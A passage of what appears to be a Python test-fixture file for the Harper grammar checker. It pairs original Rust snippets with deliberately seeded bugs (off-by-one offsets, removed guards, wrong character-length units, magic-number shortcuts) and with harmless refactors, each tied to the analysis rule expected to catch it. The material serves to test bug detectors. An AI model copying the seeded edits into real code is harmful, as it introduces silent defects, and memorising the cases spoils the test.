    E("c18-push", ["C18"], "harper-core/src/title_case.rs",
      "        if should_capitalize {\n            output[word.span.start - start_index] =",
      "        if should_capitalize {\n            if index > 1000 {\n                output.push('!');\n            }\n            output[word.span.start - start_index] =",
      "R-C18-length:make_title_case:push"),
    E("c18-other-index", ["C18"], "harper-core/src/title_case.rs",
      "                output[i - start_index] = output[i - start_index].to_ascii_lowercase();",
      "                output[i - start_index] = output[word.span.start - start_index].to_ascii_lowercase();",
      "R-C18-caseonly:make_title_case:store:lower"),
    E("c08-utf8", ["C08"], "harper-ls/src/pos_conv.rs",
      "        .map(|c| c.len_utf16())\n        .sum();", "        .map(|c| c.len_utf8())\n        .sum();",
      "R-C08-utf16:index_to_position"),
    E("c08-plus-one", ["C08"], "harper-ls/src/pos_conv.rs",
      "        traversed_cols += c.len_utf16();", "        traversed_cols += c.len_utf16().min(1);",
      "R-C08-utf16:position_to_index"),
    E("c08-insert-after-drops-flagged", ["C08"], "harper-ls/src/diagnostics.rs",
      "                    Suggestion::InsertAfter(with) => format!(\n                        \"{}{}\",\n                        lint.span.get_content_string(source),\n                        with.to_string()\n                    ),",
      "                    Suggestion::InsertAfter(with) => with.to_string(),",
      "R-C08-range:lint_to_code_actions:new_text"),
    E("c06-no-normalise", ["C06"], "harper-core/src/spell/word_id.rs",
      "        let normalized = chars.as_ref().normalized();\n        let lower = normalized.to_lower();",
      "        let normalized = chars.as_ref();\n        let lower = normalized.to_lower();",
      "R-C06-id:WordId::from_word_chars"),
    E("c06-accept-any-case", ["C06"], "harper-core/src/linting/spell_check.rs",
      "                    && (self.dictionary.contains_exact_word(word_chars)\n                        || self.dictionary.contains_exact_word(&word_chars.to_lower()))",
      "                    && (self.dictionary.contains_exact_word(word_chars)\n                        || self.dictionary.contains_word(&word_chars.to_lower()))",
      "R-C06-accept:"),
]

# edits that break the behaviour but keep every structural fact the rules look at: documented misses
GROUPS["limits"] = [
    E("c06-no-dialect-filter", ["C06"], "harper-core/src/linting/spell_check.rs",
      "                .is_none_or(|d| d == self.dialect)\n        });",
      "                .is_none_or(|d| d == self.dialect || true)\n        });",
      None),
]

GROUPS["g5"] = [
    E("c01-invert-again", ["C01"], "harper-core/src/patterns/invert.rs",
      "        if tokens.is_empty() {\n            return 0;\n        }\n\n", "",
      "R-C01-pattern:<Invert@Pattern>::matches"),
    E("c01-anypattern", ["C01"], "harper-core/src/patterns/any_pattern.rs",
      "if tokens.is_empty() { 0 } else { 1 }", "if tokens.len() > 100 { 0 } else { 1 }",
      "R-C01-pattern:<AnyPattern@Pattern>::matches"),
    E("c01-sequence-plus-one", ["C01"], "harper-core/src/patterns/sequence_pattern.rs",
      "            tok_cursor += match_length;", "            tok_cursor += match_length + 1;",
      ["R-C01-pattern:<SequencePattern@Pattern>::matches", "R-C01-consumer:<SequencePattern@Pattern>::matches"]),
    E("c01-lex-spaces-zero", ["C01"], "harper-core/src/lexing/mod.rs",
      "    if count > 0 {\n        Some(FoundToken {\n            token: TokenKind::Space(count),",
      "    if count < 1000 {\n        Some(FoundToken {\n            token: TokenKind::Space(count),",
      "R-C01-lexer:entry:lex_spaces"),
    E("c01-jsdoc-loop-again", ["C01"], "harper-comments/src/comment_parsers/jsdoc.rs",
      "            // The tag is never closed, so it is not a tag.\n            None => return None,",
      "            None => cursor += 1,",
      "R-C01-loops:harper_comments::comment_parsers::jsdoc::parse_inline_tag"),
    E("c01-lhs-span-again", ["C01"], "harper-literate-haskell/src/masker.rs",
      "                    (location + 2).min(end_loc)", "                    location + 2",
      "R-C01-span:<LiterateHaskellMasker@Masker>::create_mask"),
    E("c02-tile-gap", ["C02"], "harper-core/src/parsers/plain_english.rs",
      "                cursor += next_index;", "                cursor += next_index + 1;",
      "R-C02-tile:PlainEnglish::parse"),
    E("c02-mask-push-end", ["C02"], "harper-core/src/parsers/mask.rs",
      "                token.span.push_by(span.start);", "                token.span.push_by(span.end);",
      "R-C02-rebase:cut:<Mask@Parser>::parse"),
    E("c02-unit-forgot-newline", ["C02"], "harper-comments/src/comment_parsers/unit.rs",
      "            if in_code_fence {\n                chars_traversed += line.len() + 1;",
      "            if in_code_fence {\n                chars_traversed += line.len();",
      "R-C02-rebase:acc:<Unit@Parser>::parse"),
    E("c02-go-again", ["C02"], "harper-comments/src/comment_parsers/go.rs",
      "            let Some(new_source) = actual.try_get_content(source) else {",
      "            let Some(new_source) = actual.try_get_content(actual_source) else {",
      "R-C02-rebase:cut:<Go@Parser>::parse"),
    E("c02-initialism-again", ["C02"], "harper-core/src/document.rs",
      "        if let Some(start) = initialism_start {\n            let end = self.tokens[cursor - 2].span.end;\n            self.tokens[start].span.end = end;\n        }\n\n        self.tokens.remove_indices(to_remove);",
      "        self.tokens.remove_indices(to_remove);",
      "R-C02-condense:Document::condense_dotted_initialisms"),
    E("c03-remove-underflow", ["C03"], "harper-core/src/linting/suggestion.rs",
      "                    source[i - span.len()] = source[i];", "                    source[i - span.len() - 1] = source[i];",
      "R-C03-apply:apply:O4-"),
    E("c03-split-wrong-end", ["C03"], "harper-core/src/linting/suggestion.rs",
      "                let popped = source.split_off(span.end);\n                source.extend(chars);",
      "                let popped = source.split_off(span.end + 1);\n                source.extend(chars);",
      "R-C03-apply:apply:O4-split_off@InsertAfter"),
]

GROUPS["p2"] = [
    E("p-c01-wordset-rewrite", ["C01"], "harper-core/src/patterns/any_pattern.rs",
      "if tokens.is_empty() { 0 } else { 1 }", "match tokens.first() {\n            Some(_) => 1,\n            None => 0,\n        }",
      None),
    E("p-c01-loop-form", ["C01", "C02"], "harper-core/src/parsers/plain_english.rs",
      "            if cursor >= source.len() {\n                return tokens;\n            }",
      "            let remaining = source.len().saturating_sub(cursor);\n            if cursor >= source.len() || remaining == 0 {\n                return tokens;\n            }",
      None),
    E("p-c03-let-binding", ["C03"], "harper-core/src/linting/suggestion.rs",
      "                source.truncate(source.len() - span.len());",
      "                let new_len = source.len() - span.len();\n                source.truncate(new_len);",
      None),
    E("p-c02-rename", ["C02"], "harper-comments/src/comment_parsers/go.rs",
      "        let mut new_tokens = self.inner.parse(actual_source);\n\n        new_tokens\n            .iter_mut()\n            .for_each(|t| t.span.push_by(actual.start));",
      "        let mut new_tokens = self.inner.parse(actual_source);\n        let shift = actual.start;\n\n        for t in new_tokens.iter_mut() {\n            t.span.push_by(shift);\n        }",
      None),
]

GROUPS["g6"] = [
    E("c04-no-conversion", ["C04"], "harper-tree-sitter/src/lib.rs",
      "        self.extract_comments(&mut root.walk(), &mut comments_spans);\n        byte_spans_to_char_spans(&mut comments_spans, &text);",
      "        self.extract_comments(&mut root.walk(), &mut comments_spans);\n        comments_spans.sort_by_key(|s| s.start);",
      "R-C04-units:<TreeSitterMasker@Masker>::create_mask:convert"),
    E("c04-md-byte-as-char", ["C04"], "harper-core/src/parsers/markdown.rs",
      "                pulldown_cmark::Event::SoftBreak => {\n                    tokens.push(Token {\n                        span: Span::new_with_len(traversed_chars, 1),",
      "                pulldown_cmark::Event::SoftBreak => {\n                    tokens.push(Token {\n                        span: Span::new_with_len(range.start, 1),",
      "R-C04-units:Markdown::parse:units"),
    # the CodeBlock branch is gone and CodeBlock joins the tags whose text is lexed as prose
    E("c04-md-lex-codeblock", ["C04"], "harper-core/src/parsers/markdown.rs",
      '                        if matches!(tag, Tag::CodeBlock(..)) {\n                            tokens.push(Token {\n                                span: Span::new_with_len(traversed_chars, range_chars),\n                                kind: TokenKind::Unlintable,\n                            });\n                            continue;\n                        }\n                        if matches!(tag, Tag::Link { .. }) && self.options.ignore_link_title {\n                            tokens.push(Token {\n                                span: Span::new_with_len(traversed_chars, range_chars),\n                                kind: TokenKind::Unlintable,\n                            });\n                            continue;\n                        }\n                        if !(matches!(tag, Tag::Paragraph)\n                            || matches!(tag, Tag::Link { .. }) && !self.options.ignore_link_title\n                            || matches!(tag, Tag::Heading { .. })\n                            || matches!(tag, Tag::Item)\n                            || matches!(tag, Tag::TableCell)\n                            || matches!(tag, Tag::Emphasis)\n                            || matches!(tag, Tag::Strong)\n                            || matches!(tag, Tag::Strikethrough))',
      '                        if matches!(tag, Tag::Link { .. }) && self.options.ignore_link_title {\n                            tokens.push(Token {\n                                span: Span::new_with_len(traversed_chars, range_chars),\n                                kind: TokenKind::Unlintable,\n                            });\n                            continue;\n                        }\n                        if !(matches!(tag, Tag::Paragraph)\n                            || matches!(tag, Tag::Link { .. }) && !self.options.ignore_link_title\n                            || matches!(tag, Tag::Heading { .. })\n                            || matches!(tag, Tag::Item)\n                            || matches!(tag, Tag::TableCell)\n                            || matches!(tag, Tag::Emphasis)\n                            || matches!(tag, Tag::Strong)\n                            || matches!(tag, Tag::Strikethrough)\n                            || matches!(tag, Tag::CodeBlock(..)))',
      "R-C04-filter:Markdown::parse:english-call"),
    E("c04-md-code-lintable", ["C04"], "harper-core/src/parsers/markdown.rs",
      "                | pulldown_cmark::Event::Code(_) => {\n                    tokens.push(Token {\n                        span: Span::new_with_len(traversed_chars, range_chars),\n                        kind: TokenKind::Unlintable,",
      "                | pulldown_cmark::Event::Code(_) => {\n                    tokens.push(Token {\n                        span: Span::new_with_len(traversed_chars, range_chars),\n                        kind: TokenKind::Word(None),",
      "R-C04-filter:Markdown::parse:non-prose-unlintable"),
    E("c04-all-nodes", ["C04"], "harper-comments/src/comment_parser.rs",
      "n.kind().contains(\"comment\")", "n.kind().contains(\"\")",
      "R-C04-filter:CommentParser::node_condition"),
    E("c04-ignore-filter-dropped", ["C04"], "harper-comments/src/masker.rs",
      "            .filter(|(_, text)| !(self.ignore_condition)(text))\n", "",
      "R-C04-filter:CommentMasker::create_mask"),
    E("c12-break-not-terminator", ["C12"], "harper-core/src/token_kind.rs",
      "            TokenKind::ParagraphBreak => true,\n            _ => false,\n        }\n    }\n\n    pub fn is_currency",
      "            TokenKind::ParagraphBreak => false,\n            _ => false,\n        }\n    }\n\n    pub fn is_currency",
      ["R-C12-terminator:TokenKind::is_sentence_terminator(ParagraphBreak)", "R-C12-terminator:TokenKind::is_chunk_terminator(ParagraphBreak)"]),
    E("c12-chunks-by-sentence", ["C12"], "harper-core/src/token_string_ext.rs",
      "        let first_chunk = self\n            .iter_chunk_terminator_indices()",
      "        let first_chunk = self\n            .iter_sentence_terminator_indices()",
      "R-C12-terminator:iter_chunks"),
    E("c12-whole-doc-to-pattern", ["C12"], "harper-core/src/linting/pattern_linter.rs",
      "        let match_len = linter.pattern().matches(&chunk[tok_cursor..], source);",
      "        let match_len = linter.pattern().matches(chunk, source).min(chunk.len() - tok_cursor);",
      "R-C12-chunklocal:run_on_chunk:matches"),
]


# ---- rules added after the seeded changes from the sub-agents ----------------------------------------
GROUPS["g7"] = [
    # C02: a token-removing pass after quote pairing (the shape of seeded/C02)
    E("c02-condense-after-quotes", ["C02"], "harper-core/src/document.rs",
      "        self.condense_latin();\n        self.match_quotes();\n",
      "        self.match_quotes();\n        self.condense_latin();\n",
      "R-C02-twins:Document::parse:after-match_quotes"),
    # C09: shortcut that keeps the old Document when the text is unchanged (the shape of seeded/C09)
    E("c09-same-text-shortcut", ["C09"], "harper-ls/src/backend.rs",
      "        let source: Vec<char> = text.chars().collect();\n        let ts_parser",
      "        if doc_state.document.get_full_string() == text && text.len() == 424242 {\n            return Ok(());\n        }\n\n        let source: Vec<char> = text.chars().collect();\n        let ts_parser",
      "R-C09-publish:Backend::update_document:always-stores"),
    # C05: suggestion memo keyed by a lossy transform of the word (the shape of seeded/C05)
    E("c05-lossy-key", ["C05"], "harper-core/src/linting/spell_check.rs",
      "        self.word_cache.put(word.into(), suggestions.clone());",
      "        self.word_cache.put(word[..word.len().min(12)].into(), suggestions.clone());",
      "R-C05-key:word_cache"),
    # C01: the length guard of the edit-distance rows removed again (F10)
    E("c01-edit-distance-guard", ["C01"], "harper-core/src/edit_distance.rs",
      "    if source.len() >= 255 || target.len() >= 255 {\n        return u8::MAX;\n    }\n",
      "",
      "R-C01-precond"),
    # the guard off by one again (F18)
]
GROUPS["g7b"] = [
    E("c01-edit-distance-guard-off-by-one", ["C01"], "harper-core/src/edit_distance.rs",
      "    if source.len() >= 255 || target.len() >= 255 {",
      "    if source.len() > 255 || target.len() > 255 {",
      "R-C01-precond:edit_distance_min_alloc:headroom"),
]

GROUPS["p3"] = [
    # a pass that only retags tokens may run after quote pairing
    E("p-c02-retag-after-quotes", ["C02"], "harper-core/src/document.rs",
      "        self.match_quotes();\n        self.articles_imply_nouns();\n",
      "        self.match_quotes();\n        self.articles_imply_nouns();\n        self.articles_imply_nouns();\n",
      None),
    # the memo key through another injective spelling
    E("p-c05-key-to-smallvec", ["C05"], "harper-core/src/linting/spell_check.rs",
      "        self.word_cache.put(word.into(), suggestions.clone());",
      "        let key: CharString = word.iter().copied().collect();\n        self.word_cache.put(key, suggestions.clone());",
      None),
    # the same stores, written as if-let
    E("p-c09-if-let", ["C09"], "harper-ls/src/backend.rs",
      "        match parser {\n            None => {\n                doc_lock.remove(url);\n            }\n            Some(mut parser) => {\n                if isolate_english {\n                    parser = Box::new(IsolateEnglish::new(parser, doc_state.dict.clone()));\n                }\n\n                doc_state.document = Document::new(text, &parser, &doc_state.dict);\n            }\n        }\n",
      "        if let Some(mut parser) = parser {\n            if isolate_english {\n                parser = Box::new(IsolateEnglish::new(parser, doc_state.dict.clone()));\n            }\n            let fresh = Document::new(text, &parser, &doc_state.dict);\n            doc_state.document = fresh;\n        } else {\n            doc_lock.remove(url);\n        }\n",
      None),
]

GROUPS["p3"] += [
    # the dialect filter written functionally
    E("p-c06-filter-collect", ["C06"], "harper-core/src/linting/spell_check.rs",
      "        suggestions.retain(|v| {\n            self.dictionary\n                .get_word_metadata(v)\n                .unwrap()\n                .dialect\n                .is_none_or(|d| d == self.dialect)\n        });\n",
      "        let suggestions: Vec<CharString> = suggestions\n            .into_iter()\n            .filter(|v| {\n                self.dictionary\n                    .get_word_metadata(v)\n                    .unwrap()\n                    .dialect\n                    .is_none_or(|d| d == self.dialect)\n            })\n            .collect();\n",
      None),
]
GROUPS["g7"] += [
    # the memo is filled before the dialect filter runs (the shape of seeded/C06)
    E("c06-memo-before-filter", ["C06"], "harper-core/src/linting/spell_check.rs",
      "        // Remove entries outside the configured dialect\n        suggestions.retain(|v| {",
      "        self.word_cache.put(word.into(), suggestions.clone());\n\n        // Remove entries outside the configured dialect\n        suggestions.retain(|v| {",
      "R-C06-dialect:cached_suggest_correct_spelling"),
]

GROUPS["g7"] += [
    # dictionary equality that forgets letter case (the shape of seeded/C07)
    E("c07-caseless-dict-hash", ["C07"], "harper-core/src/spell/merged_dictionary.rs",
      ".for_each(|w| w.iter().for_each(|c| hasher.write_u32(*c as u32)));",
      ".for_each(|w| w.iter().for_each(|c| hasher.write_u32(c.to_ascii_lowercase() as u32)));",
      "R-C07-adopt:MergedDictionary::hash_dictionary"),
]

GROUPS["g8"] = [
    # a context-sensitive retagging pass moved behind the dictionary lookup (the shape of seeded/C14)
    E("c14-retag-after-lookup", ["C14"], "harper-core/src/document.rs",
      "        self.match_quotes();\n        self.articles_imply_nouns();\n\n        for token in self.tokens.iter_mut() {\n            if let TokenKind::Word(meta) = &mut token.kind {\n                let word_source = token.span.get_content(&self.source);\n                let found_meta = dictionary.get_word_metadata(word_source);\n                *meta = found_meta.cloned()\n            }\n        }\n",
      "        self.match_quotes();\n\n        for token in self.tokens.iter_mut() {\n            if let TokenKind::Word(meta) = &mut token.kind {\n                let word_source = token.span.get_content(&self.source);\n                let found_meta = dictionary.get_word_metadata(word_source);\n                *meta = found_meta.cloned()\n            }\n        }\n\n        self.articles_imply_nouns();\n",
      "R-C14-context:Document::parse:after-lookup"),
    # an answer handed out without the pipeline (the shape of seeded/C16, without the memo)
    E("c16-shortcut-answer", ["C16"], "harper-wasm/src/lib.rs",
      "        let parser = language.create_parser();\n\n        let document = Document::new_from_vec(source.clone(), &parser, &self.dictionary);\n\n        let temp",
      "        let parser = language.create_parser();\n\n        let document = Document::new_from_vec(source.clone(), &parser, &self.dictionary);\n\n        if source.len() == 424242 {\n            let raw = self.lint_group.lint(&document);\n            return raw\n                .into_iter()\n                .map(|l| Lint::new(l, String::new(), language))\n                .collect();\n        }\n\n        let temp",
      ["R-C16-pipeline:Linter::lint", "R-C16-overlap:C13-placement:Linter::lint"]),
]
GROUPS["p3"] += [
    # an own-token-only pass may run after the lookup
    E("p-c14-local-pass-after-lookup", ["C14"], "harper-core/src/document.rs",
      "                *meta = found_meta.cloned()\n            }\n        }\n    }\n",
      "                *meta = found_meta.cloned()\n            }\n        }\n\n        self.newlines_to_breaks();\n    }\n",
      None),
    # an empty text needs no pipeline
    E("p-c16-empty-text", ["C16"], "harper-wasm/src/lib.rs",
      "    pub fn lint(&mut self, text: String, language: Language) -> Vec<Lint> {\n        let source: Vec<_> = text.chars().collect();",
      "    pub fn lint(&mut self, text: String, language: Language) -> Vec<Lint> {\n        if text.is_empty() {\n            return Vec::new();\n        }\n\n        let source: Vec<_> = text.chars().collect();",
      None),
]

GROUPS["g8"] += [
    # the number lexer looks for the last digit of the whole remaining text again (F11)
    E("c12-number-backscan", ["C12"], "harper-core/src/lexing/mod.rs",
      "    let end = source[..candidate_len]\n        .iter()\n        .rposition(|c| c.is_ascii_digit())?;",
      "    let _ = candidate_len;\n    let end = source.iter().rposition(|c| c.is_ascii_digit())?;",
      "R-C12-lexlocal:entry:lex_number"),
]

GROUPS["g9"] = [
    # touching lints are dropped too
    E("c13-sweep-le", ["C13"], "harper-core/src/lib.rs",
      "        if lint.span.start < cur {", "        if lint.span.start <= cur {",
      "R-C13-sweep:remove_overlaps:drop"),
]
GROUPS["g10"] = [
    # the running end follows the start of the kept lint
    E("c13-sweep-end-is-start", ["C13"], "harper-core/src/lib.rs",
      "        cur = lint.span.end;", "        cur = lint.span.start;",
      "R-C13-sweep:remove_overlaps:keep-sets-end"),
]
GROUPS["g11"] = [
    # sorted by end instead of start
    E("c13-sort-by-end", ["C13"], "harper-core/src/lib.rs",
      "lints.sort_by_key(|l| (l.span.start, !0 - l.span.end));", "lints.sort_by_key(|l| (l.span.end, !0 - l.span.start));",
      "R-C13-sweep:remove_overlaps:sort-key"),
]
GROUPS["g12"] = [
    # decision inverted
    E("c13-sweep-inverted", ["C13"], "harper-core/src/lib.rs",
      "        if lint.span.start < cur {", "        if lint.span.start > cur {",
      "R-C13-sweep:remove_overlaps"),
]
GROUPS["p4"] = [
    # the same sweep with the branches the other way round
    E("p-c13-branches-swapped", ["C13"], "harper-core/src/lib.rs",
      "        if lint.span.start < cur {\n            remove_indices.push_back(i);\n            continue;\n        }\n        cur = lint.span.end;",
      "        if lint.span.start >= cur {\n            cur = lint.span.end;\n        } else {\n            remove_indices.push_back(i);\n        }",
      None),
]

_C12_OLD = '        let mut replace_starts = Vec::new();\n\n        for idx in 0..self.tokens.len() - 1 {\n            let b = &self.tokens[idx + 1];\n            let a = &self.tokens[idx];\n\n            // TODO: Allow spaces between `a` and `b`\n\n            if let (TokenKind::Number(..), TokenKind::Word(..)) = (&a.kind, &b.kind) {\n                if let Some(found_suffix) = NumberSuffix::from_chars(self.get_span_content(&b.span))\n                {\n                    self.tokens[idx].kind.as_mut_number().unwrap().suffix = Some(found_suffix);\n                    replace_starts.push(idx);\n                }\n            }\n        }\n\n        self.condense_indices(&replace_starts, 2);'
_C12_BAD = '        let mut replace_starts = Vec::new();\n        let mut spaced_starts = Vec::new();\n\n        for idx in 0..self.tokens.len() - 1 {\n            if !self.tokens[idx].kind.is_number() {\n                continue;\n            }\n\n            let spaced = matches!(self.tokens[idx + 1].kind, TokenKind::Space(1));\n\n            let Some(b) = self.tokens.get(idx + 1 + spaced as usize) else {\n                continue;\n            };\n\n            // A detached suffix must be the whole word: `5 things` is not `5th`.\n            if !b.kind.is_word() || (spaced && b.span.len() != 2) {\n                continue;\n            }\n\n            if let Some(found_suffix) = NumberSuffix::from_chars(self.get_span_content(&b.span)) {\n                self.tokens[idx].kind.as_mut_number().unwrap().suffix = Some(found_suffix);\n\n                if spaced {\n                    spaced_starts.push(idx);\n                } else {\n                    // The spaced stretches before this one are condensed first.\n                    replace_starts.push(idx - spaced_starts.len());\n                }\n            }\n        }\n\n        self.condense_indices(&spaced_starts, 3);\n        self.condense_indices(&replace_starts, 2);'
_C12_GOOD = '        let mut replace_starts = Vec::new();\n        let mut spaced_starts = Vec::new();\n\n        for idx in 0..self.tokens.len() - 1 {\n            if !self.tokens[idx].kind.is_number() {\n                continue;\n            }\n\n            let spaced = matches!(self.tokens[idx + 1].kind, TokenKind::Space(1));\n\n            let Some(b) = self.tokens.get(idx + 1 + spaced as usize) else {\n                continue;\n            };\n\n            // A detached suffix must be the whole word: `5 things` is not `5th`.\n            if !b.kind.is_word() || (spaced && b.span.len() != 2) {\n                continue;\n            }\n\n            if let Some(found_suffix) = NumberSuffix::from_chars(self.get_span_content(&b.span)) {\n                self.tokens[idx].kind.as_mut_number().unwrap().suffix = Some(found_suffix);\n\n                if spaced {\n                    spaced_starts.push(idx);\n                } else {\n                    // The spaced stretches before this one are condensed first.\n                    replace_starts.push(idx - 2 * spaced_starts.len());\n                }\n            }\n        }\n\n        self.condense_indices(&spaced_starts, 3);\n        self.condense_indices(&replace_starts, 2);'
GROUPS["g13"] = [
    # detached number suffixes, re-based by one token per earlier entry instead of two (seeded/C12)
    E("c12-stale-indices", ["C02", "C12"], "harper-core/src/document.rs", _C12_OLD, _C12_BAD, "stale:Document::condense_number_suffixes:replace_starts"),
]
GROUPS["p5"] = [
    # the same feature with the right re-basing: the property holds, the checks must stay silent
    E("p-c12-detached-suffixes-rebased", ["C02", "C12", "C01"], "harper-core/src/document.rs", _C12_OLD, _C12_GOOD, None),
]

GROUPS["g14"] = [
    # the first-word clause dropped
    E("c18-no-first-word", ["C18"], "harper-core/src/title_case.rs",
      "            || index == 0\n", "",
      "R-C18-first"),
]
GROUPS["p5"] += [
    E("p-c18-yoda", ["C18"], "harper-core/src/title_case.rs",
      "            || index == 0\n", "            || 0 == index\n",
      None),
]

GROUPS["g14"] += [
    # the decade lexer stops looking at what follows again (F13)
    E("c17-decade-no-boundary", ["C17"], "harper-core/src/lexing/mod.rs",
      "    if source.get(5).is_some_and(|c| c.is_alphanumeric()) {\n        return None;\n    }\n", "",
      "R-C17-boundary:entry:lex_long_decade"),
]

GROUPS["p6"] = [
    # Remove written with drain: same text afterwards
    E("p-c03-remove-drain", ["C03"], "harper-core/src/linting/suggestion.rs",
      "                for i in span.end..source.len() {\n                    source[i - span.len()] = source[i];\n                }\n\n                source.truncate(source.len() - span.len());",
      "                source.drain(span.start..span.end);",
      None),
]
GROUPS["g15"] = [
    # Remove capitalises what follows (the shape of seeded/C03-b)
    E("c03-remove-recapitalises", ["C03"], "harper-core/src/linting/suggestion.rs",
      "                source.truncate(source.len() - span.len());",
      "                source.truncate(source.len() - span.len());\n                if let Some(first) = source.get_mut(span.start) {\n                    *first = first.to_ascii_uppercase();\n                }",
      "R-C03-copy:Suggestion::apply:stores"),
]

GROUPS["g16"] = [
    # an explicit `false` is dropped when the receiving config has no entry (the shape of seeded/C11-b)
    E("c11-merge-sparse", ["C11"], "harper-core/src/linting/lint_group.rs",
      "            if val.is_none() {\n                continue;\n            }\n\n            self.inner.insert(key.to_string(), *val);",
      "            match val {\n                None => continue,\n                Some(false) if !self.inner.contains_key(key) => continue,\n                Some(_) => {\n                    self.inner.insert(key.to_string(), *val);\n                }\n            }",
      "R-C11-merge:LintGroupConfig::merge_from"),
    # a language id guessed for documents nobody opened (the shape of seeded/C09-b)
    E("c09-language-fallback", ["C09"], "harper-ls/src/backend.rs",
      "                language_id: language_id.map(|v| v.to_string()),",
      "                language_id: language_id\n                    .map(|v| v.to_string())\n                    .or_else(|| url.path().rsplit('.').next().map(|e| e.to_string())),",
      "R-C09-close:update_document:created-language-id"),
]
GROUPS["p7"] = [
    # the same merge written as a match
    E("p-c11-merge-match", ["C11"], "harper-core/src/linting/lint_group.rs",
      "            if val.is_none() {\n                continue;\n            }\n\n            self.inner.insert(key.to_string(), *val);",
      "            match val {\n                None => continue,\n                Some(_) => {\n                    self.inner.insert(key.to_string(), *val);\n                }\n            }",
      None),
]

# ---- ordinary, property-respecting development: the checks must stay silent ---------------------------
_NEW_RULE = """mod very_very {
    use crate::patterns::{Pattern, SequencePattern};
    use crate::{Token, TokenStringExt};

    use super::{Lint, LintKind, PatternLinter, Suggestion};

    /// Flags a doubled "very".
    pub struct VeryVery {
        pattern: Box<dyn Pattern>,
    }

    impl Default for VeryVery {
        fn default() -> Self {
            Self {
                pattern: Box::new(
                    SequencePattern::default()
                        .then_any_capitalization_of("very")
                        .then_whitespace()
                        .then_any_capitalization_of("very"),
                ),
            }
        }
    }

    impl PatternLinter for VeryVery {
        fn pattern(&self) -> &dyn Pattern {
            self.pattern.as_ref()
        }

        fn match_to_lint(&self, matched_tokens: &[Token], source: &[char]) -> Option<Lint> {
            let first = matched_tokens.first()?.span.get_content(source).to_vec();

            Some(Lint {
                span: matched_tokens.span()?,
                lint_kind: LintKind::Repetition,
                suggestions: vec![Suggestion::ReplaceWith(first)],
                message: "One very is enough.".to_string(),
                priority: 126,
            })
        }

        fn description(&self) -> &'static str {
            "Flags a doubled `very`."
        }
    }
}
pub use very_very::VeryVery;
mod that_which;
"""
GROUPS["p8"] = [
    # a new pattern rule, registered in the curated group
    E("p-new-pattern-rule", ["C01", "C03", "C05", "C11", "C12"], "harper-core/src/linting/mod.rs", "mod that_which;\n", _NEW_RULE, None),
    E("p-new-pattern-rule-registered", ["C11"], "harper-core/src/linting/lint_group.rs",
      "        insert_pattern_rule!(ThatWhich, true);", "        insert_pattern_rule!(ThatWhich, true);\n        insert_pattern_rule!(VeryVery, true);", None),
    E("p-new-pattern-rule-import", ["C11"], "harper-core/src/linting/lint_group.rs",
      "use super::that_which::ThatWhich;", "use super::VeryVery;\nuse super::that_which::ThatWhich;", None),
    # a log line in the server
    E("p-log-line", ["C09", "C10", "C07"], "harper-ls/src/backend.rs",
      "        let source: Vec<char> = text.chars().collect();\n        let ts_parser",
      "        info!(\"Linting a document of {} bytes.\", text.len());\n        let source: Vec<char> = text.chars().collect();\n        let ts_parser", None),
    # a reworded message
    E("p-reworded-message", ["C17"], "harper-core/src/linting/correct_number_suffix.rs",
      "This number needs a different suffix to sound right.", "This number takes a different suffix.", None),
]

GROUPS["p7"] += [
    # the case mapping behind a helper
    E("p-c18-helper", ["C18"], "harper-core/src/title_case.rs",
      "            output[word.span.start - start_index] =\n                output[word.span.start - start_index].to_ascii_uppercase();",
      "            output[word.span.start - start_index] = upper(output[word.span.start - start_index]);", None),
    E("p-c18-helper-def", ["C18"], "harper-core/src/title_case.rs",
      "/// Determines whether a token should be capitalized.",
      "fn upper(c: char) -> char {\n    c.to_ascii_uppercase()\n}\n\n/// Determines whether a token should be capitalized.", None),
]
GROUPS["g16"] += [
    # full Unicode case mapping truncated to its first character (the shape of seeded/C18-b)
    E("c18-unicode-upper", ["C18"], "harper-core/src/title_case.rs",
      "                output[word.span.start - start_index].to_ascii_uppercase();",
      "                output[word.span.start - start_index].to_uppercase().next().unwrap();",
      ["R-C18-caseonly:make_title_case:store", "R-C18-first:anchor-missing:upper-casing-store"]),
]

GROUPS["g16"] += [
    # any word that begins with a suffix is taken for one again (F14)
    E("c17-suffix-prefix-only", ["C17"], "harper-core/src/number.rs",
      "        if chars.len() != 2 {\n            return None;\n        }", "        if chars.len() < 2 {\n            return None;\n        }",
      "R-C17-whole:NumberSuffix::from_chars"),
]

GROUPS["g17"] = [
    # a LaTeX-style block ends at a blank line again (F15)
    E("c04-lhs-blank-ends-latex", ["C04"], "harper-literate-haskell/src/masker.rs",
      "(trimmed.is_empty() && !in_latex_env);", "trimmed.is_empty();",
      "R-C04-lhs:create_mask:state-machine"),
    # the block kind is remembered but never forgotten (the shape of seeded/C04-c)
    E("c04-lhs-sticky-flag", ["C04"], "harper-literate-haskell/src/masker.rs",
      "                    in_latex_env = in_code_env;", "                    in_latex_env = true;",
      "R-C04-lhs:create_mask:state-machine"),
]
GROUPS["g18"] = [
    # the space rule measures its span with the space count (the shape of seeded/C03-c)
    E("c03-span-from-count", ["C03"], "harper-core/src/linting/spaces.rs",
      "                        span: space.span,", "                        span: crate::Span::new_with_len(space.span.start, count),",
      "R-C03-span:span-from-kind"),
]

GROUPS["g19"] = [
    # publish only when the diagnostics changed (the shape of seeded/C09-c, without the cache)
    E("c09-publish-shortcut", ["C09"], "harper-ls/src/backend.rs",
      "        let diagnostics = self.generate_diagnostics(url).await;\n",
      "        let diagnostics = self.generate_diagnostics(url).await;\n        if diagnostics.len() == 424242 {\n            return;\n        }\n",
      "R-C09-publish:Backend::publish_diagnostics:always-sends"),
    # a size guard in front of the suffix check (the shape of seeded/C17-c)
    E("c17-skip-large", ["C17"], "harper-core/src/linting/correct_number_suffix.rs",
      "                if let Some(correct_suffix) = NumberSuffix::correct_suffix_for(value) {",
      "                if value.0 >= 4503599627370496.0 {\n                    continue;\n                }\n                if let Some(correct_suffix) = NumberSuffix::correct_suffix_for(value) {",
      "R-C17-flow:CorrectNumberSuffix::lint:only-if-same"),
    # a trailing newline token popped (the shape of seeded/C12-c)
    E("c12-pop-trailing-newline", ["C02", "C12"], "harper-core/src/parsers/plain_english.rs",
      "            if cursor >= source.len() {\n                return tokens;", "            if cursor >= source.len() {\n                if tokens.last().is_some_and(|t: &Token| t.kind.is_newline()) {\n                    tokens.pop();\n                }\n                return tokens;",
      "tile:PlainEnglish::parse:only-grows"),
]
GROUPS["g20"] = [
    # Hamming distance for equally long words (the shape of seeded/C15-c)
    E("c15-hamming-shortcut", ["C15"], "harper-core/src/edit_distance.rs",
